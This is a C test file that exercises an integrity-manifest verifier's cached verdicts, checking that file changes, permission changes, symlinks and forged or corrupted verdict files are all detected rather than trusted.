	cr_expect(r.verdict_held);
	cr_expect_eq(r.files, 3);
	cr_expect_eq(r.cached, 3);
	cr_expect_eq(r.hashed, 0);
	cr_expect_eq(r.dirs_read, 0);
	cr_expect_eq(r.dirs_known, 2, "jobs and jobs/sub");
	cg_manifest_report_free(&r);
}

/* Each change a verdict must not hide, one after the other: the verdict
 * no longer holds, the change is found, and once undone and verified clean
 * the next verification is again answered by the verdict. */
static void expect_found(const char *what, enum cg_mf_kind k, const char *rel)
{
	struct cg_manifest_report r;

	cr_assert_eq(verify(&r), 1, "%s: not found", what);
	cr_expect(!r.verdict_held, "%s", what);
	cr_expect_not_null(find(&r, k, at(rel)), "%s", what);
	cg_manifest_report_free(&r);
}

static void expect_clean_then_held(const char *what)
{
	struct cg_manifest_report r;

	tick();
	cr_assert_eq(verify(&r), 0, "%s: undone but not clean", what);
	cg_manifest_report_free(&r);
	cr_assert_eq(verify(&r), 0);
	cr_expect(r.verdict_held, "%s: verdict not remembered again", what);
	cg_manifest_report_free(&r);
}

Test(manifest, verdict_does_not_hide_a_change)
{
	struct cg_manifest_report r;
	struct stat st;
	struct timespec keep[2];
	char saved[256];

	cr_assert_eq(create_manifest(), 0);
	expect_clean_then_held("start");

	/* Same size, new content, old mtime put back: only ctime tells. */
	cr_assert_eq(stat(at("jobs/backup.sh"), &st), 0);
	keep[0] = st.st_atim;
	keep[1] = st.st_mtim;
	put("jobs/backup.sh", "#!/bin/sh\ntar czf /var/backups/x.tgz /XXX\n", 0755);
	cr_assert_eq(utimensat(AT_FDCWD, at("jobs/backup.sh"), keep, 0), 0);
	expect_found("content", CG_MF_CHANGED, "jobs/backup.sh");
	put("jobs/backup.sh", "#!/bin/sh\ntar czf /var/backups/x.tgz /etc\n", 0755);
	expect_clean_then_held("content undone");

	cr_assert_eq(chmod(at("jobs/sub/clean.sh"), 0720), 0);
	expect_found("chmod", CG_MF_WRITABLE, "jobs/sub/clean.sh");
	cr_assert_eq(chmod(at("jobs/sub/clean.sh"), 0700), 0);
	expect_clean_then_held("chmod undone");

	cr_assert_eq(chown(at("jobs/rotate.sh"), NOBODY, 0), 0);
	expect_found("chown", CG_MF_NOT_ROOT, "jobs/rotate.sh");
	cr_assert_eq(chown(at("jobs/rotate.sh"), 0, 0), 0);
	expect_clean_then_held("chown undone");

	put("jobs/sub/new.sh", "#!/bin/sh\n", 0755);
	expect_found("new file in a subdirectory", CG_MF_NEW, "jobs/sub/new.sh");
	cr_assert_eq(unlink(at("jobs/sub/new.sh")), 0);
	expect_clean_then_held("new file removed");

	snprintf(saved, sizeof(saved), "%s/aside", root);
	cr_assert_eq(rename(at("jobs/rotate.sh"), saved), 0);
	expect_found("vanished", CG_MF_VANISHED, "jobs/rotate.sh");
	cr_assert_eq(rename(saved, at("jobs/rotate.sh")), 0);
	expect_clean_then_held("vanished file back");

	cr_assert_eq(chmod(at("jobs/sub"), 0775), 0);
	expect_found("directory mode", CG_MF_WRITABLE, "jobs/sub");
	cr_assert_eq(chmod(at("jobs/sub"), 0755), 0);
	expect_clean_then_held("directory mode undone");

	/* A new manifest (here: the same tree listed again) is a new question. */
	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify(&r), 0);
	cr_expect(!r.verdict_held, "the manifest changed");
	cg_manifest_report_free(&r);
	cr_assert_eq(chmod(mpath, 0664), 0);
	cr_assert_eq(verify(&r), -1, "a manifest writable by group is refused, verdict or not");
	cg_manifest_report_free(&r);
}

/* A symlink's meaning depends on more than its own stat: never remembered. */
Test(manifest, verdict_not_kept_for_a_tree_with_a_symlink)
{
	struct cg_manifest_report r;

	cr_assert_eq(symlink("backup.sh", at("jobs/alias.sh")), 0);
	cr_assert_eq(create_manifest(), 0);
	tick();
	for (int i = 0; i < 2; i++) {
		cr_assert_eq(verify(&r), 0);
		cr_expect(!r.verdict_held);
		cg_manifest_report_free(&r);
	}
	cr_expect_str_eq(verdict_path(), "");
}

/* A directory named through a symlink could be re-pointed without any
 * stat'ed entry changing: never remembered. */
Test(manifest, verdict_not_kept_for_a_directory_named_through_a_symlink)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(symlink(jobs, at("jobs-link")), 0);
	tick();
	for (int i = 0; i < 2; i++) {
		cr_assert_eq(verify_with(at("jobs-link"), cache, &r), 0);
		cr_expect(!r.verdict_held);
		cg_manifest_report_free(&r);
	}
	cr_expect_str_eq(verdict_path(), "");
}

/* Each (manifest, directories) question has its own verdict. */
Test(manifest, verdict_is_per_question)
{
	struct cg_manifest_report r;

	cr_assert_eq(create_manifest(), 0);
	tick();
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 0);
	cg_manifest_report_free(&r);
	cr_assert_eq(verify(&r), 0);
	cr_expect(!r.verdict_held, "the whole tree was never verified");
	cg_manifest_report_free(&r);
	cr_assert_eq(verify_with(at("jobs/sub"), cache, &r), 0);
	cr_expect(r.verdict_held);
	cr_expect_eq(r.files, 1);
	cg_manifest_report_free(&r);
}

/* Rewrites the verdict's entry for rel to rel's current stat: a forged
 * verdict that would hide a change. */
static void forge_verdict(const char *rel)
{
	const char *vp = verdict_path();
	struct stat st;
	unsigned char buf[65536];
	ssize_t n;
	int fd, hit = 0;

	cr_assert_eq(lstat(at(rel), &st), 0);
	fd = open(vp, O_RDWR | O_CLOEXEC);
	cr_assert_geq(fd, 0, "%s", vp);
	n = read(fd, buf, sizeof(buf));
	cr_assert_gt(n, 16);
	for (size_t off = 16; off + sizeof(struct cg_mverdict_ent) <= (size_t)n;
	     off += sizeof(struct cg_mverdict_ent)) {
		struct cg_mverdict_ent e;

		memcpy(&e, buf + off, sizeof(e));
		if (e.kind != CG_MV_BELOW || e.key.ino != (uint64_t)st.st_ino)
			continue;
		e.key.size = st.st_size;
		e.key.mtime_s = st.st_mtim.tv_sec;
		e.key.mtime_ns = (uint32_t)st.st_mtim.tv_nsec;
		e.key.ctime_s = st.st_ctim.tv_sec;
		e.key.ctime_ns = (uint32_t)st.st_ctim.tv_nsec;
		memcpy(buf + off, &e, sizeof(e));
		hit = 1;
		break;
	}
	cr_assert(hit, "no verdict entry for %s", rel);
	cr_assert_eq(pwrite(fd, buf, (size_t)n, 0), n);
	close(fd);
}

static void forged_setup(void)
{
	cr_assert_eq(create_manifest(), 0);
	expect_clean_then_held("start");
	put("jobs/backup.sh", "#!/bin/sh\ntar czf /var/backups/x.tgz /XXX\n", 0755);
	tick();
	forge_verdict("jobs/backup.sh");
}

/* Control: a trusted verdict is believed, so a forged one hides the change;
 * this shows the tests below exercise the trust checks. */
Test(manifest, trusted_verdict_is_believed)
{
	struct cg_manifest_report r;

	forged_setup();
	cr_assert_eq(verify(&r), 0);
	cr_expect(r.verdict_held);
	cg_manifest_report_free(&r);
}

Test(manifest, verdict_not_owned_by_root_is_ignored)
{
	forged_setup();
	cr_assert_eq(chown(verdict_path(), NOBODY, 0), 0);
	expect_found("verdict owned by nobody", CG_MF_CHANGED, "jobs/backup.sh");
}

Test(manifest, verdict_with_wrong_mode_is_ignored)
{
	forged_setup();
	cr_assert_eq(chmod(verdict_path(), 0640), 0);
	expect_found("verdict readable by group", CG_MF_CHANGED, "jobs/backup.sh");
}

Test(manifest, verdict_with_second_link_is_ignored)
{
	char p[256];

	forged_setup();
	snprintf(p, sizeof(p), "%s/second-link", cache);
	cr_assert_eq(link(verdict_path(), p), 0);
	expect_found("verdict with two links", CG_MF_CHANGED, "jobs/backup.sh");
}

Test(manifest, verdict_in_open_cache_directory_is_ignored)
{
	forged_setup();
	cr_assert_eq(chmod(cache, 0711), 0);
	expect_found("cache directory open to others", CG_MF_CHANGED, "jobs/backup.sh");
}

Test(manifest, corrupt_verdict_is_ignored)
{
	struct cg_manifest_report r;
	struct stat st;
	const char *vp;

	cr_assert_eq(create_manifest(), 0);
	expect_clean_then_held("start");
	vp = verdict_path();
	cr_assert_eq(stat(vp, &st), 0);
	for (off_t cut = st.st_size - 1; cut >= 0; cut -= st.st_size / 5 + 1) {
		cr_assert_eq(truncate(vp, cut), 0);
		cr_assert_eq(verify(&r), 0);
		cr_expect(!r.verdict_held, "verdict cut to %lld bytes", (long long)cut);
		cr_expect_eq(r.files, 3);
		cg_manifest_report_free(&r);
		cr_assert_eq(stat(vp, &st), 0, "rewritten");
	}
}

/* Same-size damage the size check cannot see: each one must be refused
 * (the verification then walks the tree and finds it clean again). */
Test(manifest, damaged_verdict_is_ignored)
{
	struct cg_manifest_report r;
	unsigned char orig[65536], buf[65536];
	const char *vp;
	uint32_t count, strbytes;
	ssize_t n;
	int fd;

	cr_assert_eq(create_manifest(), 0);
	expect_clean_then_held("start");
	vp = verdict_path();
	fd = open(vp, O_RDONLY | O_CLOEXEC);
	cr_assert_geq(fd, 0);
	n = read(fd, orig, sizeof(orig));
	close(fd);
	cr_assert_gt(n, 16);
	memcpy(&count, orig + 8, 4);
	memcpy(&strbytes, orig + 12, 4);
	cr_assert_eq(16 + (size_t)count * sizeof(struct cg_mverdict_ent) + strbytes, (size_t)n);
	for (int k = 0; k < 6; k++) {
		struct cg_mverdict_ent e0, e1;
		unsigned char *ents = buf + 16;
		uint32_t bad;

		memcpy(buf, orig, (size_t)n);
		memcpy(&e0, ents, sizeof(e0));
		switch (k) {
		case 0:         /* bad magic */
			buf[0] ^= 0xff;
			break;
		case 1:         /* another version */
			buf[4] ^= 0x01;
			break;
		case 2:         /* a huge count */
			bad = 0x7fffffff;
			memcpy(buf + 8, &bad, 4);
			break;
		case 3:         /* a name past the string table */
			e0.name = strbytes;
			memcpy(ents, &e0, sizeof(e0));
			break;
		case 4:         /* strings not NUL-terminated */
			buf[n - 1] = 'x';
			break;
		case 5:         /* an entry below before any top: swap the manifest
				 * entry with the last one (a file) */
			memcpy(&e1, ents + (count - 1) * sizeof(e1), sizeof(e1));
			cr_assert_eq(e1.kind, CG_MV_BELOW);
			memcpy(ents, &e1, sizeof(e1));
			memcpy(ents + (count - 1) * sizeof(e1), &e0, sizeof(e0));
			break;
		}
		fd = open(vp, O_WRONLY | O_TRUNC | O_CLOEXEC);
		cr_assert_geq(fd, 0);
		cr_assert_eq(write(fd, buf, (size_t)n), n);
		close(fd);
		cr_assert_eq(verify(&r), 0);
		cr_expect(!r.verdict_held, "damage %d believed", k);
		cr_expect_eq(r.files, 3);
		cg_manifest_report_free(&r);
		vp = verdict_path();
	}
}

/* Nothing from the clock tick the verification started in is remembered,
 * nor, on a filesystem that stores whole seconds, from the last two. */
Test(manifest, verdict_needs_settled_times)
{
	struct cg_mverdict m;
	struct stat st;
	struct timespec t0;
	const char *what;

	cr_assert_eq(create_manifest(), 0);
	cr_assert_eq(stat(mpath, &st), 0);
	cr_assert_eq(mkdir(cache, 0700), 0);

	t0 = st.st_ctim;                        /* changed in this very tick */
	cg_mverdict_begin(&m, mpath, NULL, &st, &t0);
	cg_mverdict_top(&m, jobs, &st);
	cr_expect(m.spoiled);
	cr_expect_eq(cg_mverdict_save(&m, cache, &what), 0);
	cg_mverdict_free(&m);

	st.st_ctim.tv_nsec = 0;                 /* whole seconds, one second ago */
	t0.tv_sec = st.st_ctim.tv_sec + 1;
	t0.tv_nsec = 0;
	cg_mverdict_begin(&m, mpath, NULL, &st, &t0);
	cr_expect(m.spoiled);
	cg_mverdict_free(&m);

	t0.tv_sec = st.st_ctim.tv_sec + 2;      /* two seconds ago: settled */
	cg_mverdict_begin(&m, mpath, NULL, &st, &t0);
	cr_expect(!m.spoiled);
	cg_mverdict_free(&m);
	cr_expect_str_eq(verdict_path(), "");
}

/* A verification with findings removes the verdict it contradicts. */
Test(manifest, verdict_removed_when_findings)
{
	cr_assert_eq(create_manifest(), 0);
	expect_clean_then_held("start");
	put("jobs/sub/new.sh", "#!/bin/sh\n", 0755);
	expect_found("new file", CG_MF_NEW, "jobs/sub/new.sh");
	cr_expect_str_eq(verdict_path(), "", "the stale verdict is gone");
}

/* The top reached through a renamed parent and a symlink is the same
 * directory, but not the one the manifest names: walk it again. */
Test(manifest, verdict_not_held_through_a_symlinked_parent)
{
	struct cg_manifest_report r;
	const char *d[] = { at("real/jobs") };
	struct cg_strlist l = { d, 1 };
	struct cg_manifest_opts o = { cache, true };
	FILE *f;

	cr_assert_eq(mkdir(at("real"), 0755), 0);
	cr_assert_eq(rename(jobs, at("real/jobs")), 0);
	f = fopen(mpath, "we");
	cr_assert_not_null(f);
	cr_assert_eq(cg_manifest_create(&l, f, &r, &logger), 0);
	cg_manifest_report_free(&r);
	cr_assert_eq(fclose(f), 0);
	tick();
	cr_assert_eq(cg_manifest_verify(mpath, NULL, &o, &r, &logger), 0);
	cg_manifest_report_free(&r);
	cr_assert_eq(cg_manifest_verify(mpath, NULL, &o, &r, &logger), 0);
	cr_expect(r.verdict_held);
	cg_manifest_report_free(&r);

	cr_assert_eq(rename(at("real"), at("moved")), 0);
	cr_assert_eq(symlink("moved", at("real")), 0);
	cr_assert_eq(cg_manifest_verify(mpath, NULL, &o, &r, &logger), 1);
	cr_expect(!r.verdict_held);
	cg_manifest_report_free(&r);
}
